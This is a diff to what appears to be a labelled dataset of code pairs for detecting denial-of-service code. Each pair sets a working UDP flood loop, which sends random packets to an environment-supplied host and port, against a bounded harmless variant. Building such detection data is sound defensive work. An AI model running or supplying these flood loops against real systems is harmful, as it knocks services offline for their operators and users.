@@ -301,6 +301,13 @@ PAIRS = [
      "    s.sendto(os.urandom(1400), ('203.0.113.9', 27015))",
      "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(10):\n"
      "    s.sendto(os.urandom(64), ('127.0.0.1', 9999))"),
+    ("flood: UDP until a flag or a deadline from the environment; the same loop counting its sends", "dos_attack",
+     "import socket, os, time, random\nHOST, PORT = os.environ['HOST'], int(os.environ['PORT'])\n"
+     "SECS = int(os.environ['SECS'])\nrunning = True\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+     "t0 = time.time()\nwhile running and time.time() - t0 < SECS:\n    s.sendto(random._urandom(1024), (HOST, PORT))",
+     "import socket, os, time, random\nHOST, PORT = os.environ['HOST'], int(os.environ['PORT'])\n"
+     "sent = 0\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+     "while sent < 5 and time.time() > 0:\n    s.sendto(random._urandom(64), (HOST, PORT))\n    sent += 1"),
     ("flood: every port of one host swept again and again without pause; a port scan that sweeps once",
      "dos_attack",
      "import socket, os, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\npayload = os.urandom(1200)\n"
